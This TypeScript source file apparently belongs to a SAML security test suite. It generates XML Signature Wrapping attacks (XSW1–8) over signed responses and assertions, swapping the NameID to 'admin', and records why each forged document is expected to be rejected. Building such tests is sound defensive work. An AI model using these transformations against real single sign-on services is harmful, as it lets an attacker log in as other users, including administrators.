// Signature wrapping (S2): a signed element is moved where the signature still finds it, and one of the attacker's stands where it is read.
import type { Attack } from './saml-attack.ts'

type Level = 'response' | 'assertion'

// Puts the attacker's element together: the signed one with its signature, the same bare, and the evil one.
interface Parts {
  readonly signed: string
  readonly bare: string
  readonly evil: string
  readonly signature: string
}

const inside = (element: string, piece: string) => element.replace(/<\/saml:Issuer>/, mark => `${mark}${piece}`)
const atTheEnd = (element: string, piece: string) => element.replace(/<\/[\w:]+>$/, mark => `${piece}${mark}`)
const into = (signature: string, piece: string) => signature.replace(/<\/ds:Signature>$/, mark => `${piece}${mark}`)
const first = (signature: string, piece: string) => signature.replace(/^<ds:Signature[^>]*>/, mark => `${mark}${piece}`)
const extensions = (piece: string) => `<samlp:Extensions>${piece}</samlp:Extensions>`

// What stands in the place of the signed element: the names and numbers are those of SAML Raider and of Somorovsky et al. (2012).
const ways: readonly { readonly number: number; readonly how: string; readonly wrap: (parts: Parts, level: Level) => string }[] = [
  { number: 1, how: 'the original in the signature', wrap: ({ evil, signature, bare }) => inside(evil, first(signature, bare)) },
  { number: 2, how: 'the original before the signature', wrap: ({ evil, signature, bare }) => inside(evil, `${bare}${signature}`) },
  { number: 3, how: 'the evil one before the original', wrap: ({ evil, signed }) => `${evil}${signed}` },
  { number: 4, how: 'the original in the evil one', wrap: ({ evil, signed }) => atTheEnd(evil, signed) },
  { number: 5, how: 'the signature in the evil one, the original behind it', wrap: ({ evil, signature, bare }) => `${inside(evil, signature)}${bare}` },
  { number: 6, how: 'the original at the end of the signature of the evil one', wrap: ({ evil, signature, bare }) => inside(evil, into(signature, bare)) },
  {
    number: 7,
    how: 'one of both in Extensions',
    wrap: ({ evil, signed }, level) => (level === 'assertion' ? `${extensions(evil)}${signed}` : inside(evil, extensions(signed))),
  },
  {
    number: 8,
    how: 'the original in an Object of the signature',
    wrap: ({ evil, signature, bare }) => inside(evil, into(signature, `<ds:Object>${bare}</ds:Object>`)),
  },
]

const patterns = { response: /<samlp:Response .*<\/samlp:Response>/s, assertion: /<saml:Assertion .*<\/saml:Assertion>/s }

// The namespaces that the assertion has from its response come along, as it is moved.
const wrap = (xml: string, level: Level, isSameId: boolean, way: (typeof ways)[number]): string =>
  xml.replace(patterns[level], signed => {
    const signature = signatureOf(signed, level)
    const bare = signed.replace(signature, '')
    const renamed = isSameId ? bare : bare.replaceAll(/ ID="/g, ' ID="_evil')
    const evil = renamed.replace(/(<saml:NameID[^>]*>)[^<]*/, '$1admin')
    return way.wrap({ signed, bare, evil, signature }, level)
  })

const signatureOf = (signed: string, level: Level): string => {
  const all = signed.match(/<ds:Signature .*?<\/ds:Signature>/gs) ?? []
  // The signature of the response stands before that of the assertion.
  return (level === 'response' ? all[0] : all.at(-1)) ?? ''
}

const isSeveralRoots = (number: number, level: Level) => level === 'response' && (number === 3 || number === 5)

/** Each way over a signed response and over a signed assertion, with an ID of its own and with that of the original. */
export const wrappingAttacks: readonly Attack[] = (['response', 'assertion'] as const).flatMap(level =>
  [false, true].flatMap(isSameId =>
    ways.map((way): Attack => {
      const { number, how } = way
      const reason = isSeveralRoots(number, level) ? 'root' : isSameId ? 'duplicate_id' : 'assertions'
      const name = `S2 XSW${number} over the ${level}: ${how}${isSameId ? ', with its ID' : ''}`
      return { name, reason, signs: level, alter: xml => wrap(xml, level, isSameId, way) }
    }),
  ),
)
